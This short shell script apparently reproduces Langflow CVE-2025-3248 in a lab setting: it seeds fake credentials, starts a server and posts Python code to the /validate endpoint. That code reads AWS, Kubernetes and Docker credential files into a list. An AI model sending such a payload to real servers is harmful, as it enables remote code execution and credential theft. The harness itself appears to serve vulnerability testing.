# Langflow CVE-2025-3248: code sent to a validation endpoint runs inside the
# server's own Python process, which reads every credential it can find.
. "$LIB/common.sh"
seed_credentials
start_server
exploit /validate '
import os
loot = []
for p in ["~/.aws/credentials", "~/.kube/config", "~/.docker/config.json"]:
    try:
        loot.append(open(os.path.expanduser(p)).read())
    except OSError:
        pass
'
stop_server
